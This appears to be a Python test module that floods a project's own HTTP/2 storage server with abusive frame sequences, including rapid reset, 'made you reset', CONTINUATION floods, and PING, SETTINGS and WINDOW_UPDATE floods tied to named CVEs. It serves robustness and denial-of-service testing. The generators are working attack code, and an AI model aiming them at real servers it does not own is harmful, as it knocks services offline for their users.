"""Clients that send HTTP/2 frames without end, as fast as the server takes them.

Each flood ends when the server ends the connection, when it holds the client back, or after `count`.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator

from tests.abuse import http2
from tests.abuse.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    call_headers,
    frame,
)

Flood = Callable[[random.Random], Iterator[bytes]]
METHOD = "/aidb.v1.Storage/Get"
CANCEL = struct.pack("!I", 8)
HELD_BACK_SECONDS = 1.0
MOST_BYTES = 16 << 20


def _streams() -> Iterator[int]:
    return iter(range(1, 1 << 30, 2))


def rapid_reset(rng: random.Random) -> Iterator[bytes]:
    """Streams opened and reset at once (CVE-2023-44487)."""
    headers = call_headers(METHOD)
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)


def made_you_reset(rng: random.Random) -> Iterator[bytes]:
    """Streams that the server has to reset, for data after their end (CVE-2025-8671)."""
    headers = call_headers(METHOD)
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, headers) + frame(DATA, 0, stream, b"x")


def continuations(rng: random.Random) -> Iterator[bytes]:
    """A list of headers that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, call_headers(METHOD))
    while True:
        yield frame(CONTINUATION, 0, 1, http2.literal(b"x-flood", rng.randbytes(4000).hex().encode()))


def empty_continuations(rng: random.Random) -> Iterator[bytes]:
    """The same, of nothing."""
    yield frame(HEADERS, 0, 1, call_headers(METHOD))
    while True:
        yield frame(CONTINUATION, 0, 1)


def many_headers(rng: random.Random) -> Iterator[bytes]:
    """Calls with thousands of headers."""
    headers = call_headers(METHOD, tuple((b"x-%d" % number, b"v") for number in range(1500)))
    for stream in _streams():
        yield frame(HEADERS, END_STREAM, stream, headers[: http2.FRAME]) + frame(
            CONTINUATION, END_HEADERS, stream, headers[http2.FRAME :]
        )


def settings(rng: random.Random) -> Iterator[bytes]:
    """Each has to be acknowledged."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack("!HI", http2.INITIAL_WINDOW_SIZE, rng.randrange(1 << 20)))


def pings(rng: random.Random) -> Iterator[bytes]:
    """Each has to be answered."""
    while True:
        yield frame(PING, 0, 0, rng.randbytes(8))


def empty_data(rng: random.Random) -> Iterator[bytes]:
    """Of a request that never gets anywhere."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers(METHOD))
    while True:
        yield frame(DATA, 0, 1)


def windows(rng: random.Random) -> Iterator[bytes]:
    """By one byte, for the connection."""
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1))


def priorities(rng: random.Random) -> Iterator[bytes]:
    """Of streams that there are not."""
    while True:
        yield frame(PRIORITY, 0, rng.randrange(1, 1 << 30) | 1, struct.pack("!IB", 0, 1))


def open_streams(rng: random.Random) -> Iterator[bytes]:
    """Never ended."""
    headers = call_headers(METHOD)
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, headers)


FLOODS: tuple[Flood, ...] = (
    rapid_reset,
    made_you_reset,
    continuations,
    empty_continuations,
    many_headers,
    settings,
    pings,
    empty_data,
    windows,
    priorities,
    open_streams,
)


def flood(address: str, kind: Flood, rng: random.Random, count: int) -> Connection:
    """Up to ``count`` steps of it, or ``MOST_BYTES``; nothing is read. The connection is left open."""
    connection = Connection(address)
    connection.socket.settimeout(HELD_BACK_SECONDS)
    steps = kind(rng)
    left = MOST_BYTES
    try:
        while count > 0 and left > 0:
            part = b"".join(next(steps) for _ in range(100))
            connection.send(part)
            count, left = count - 100, left - len(part)
    except (TimeoutError, ConnectionError):
        pass
    return connection
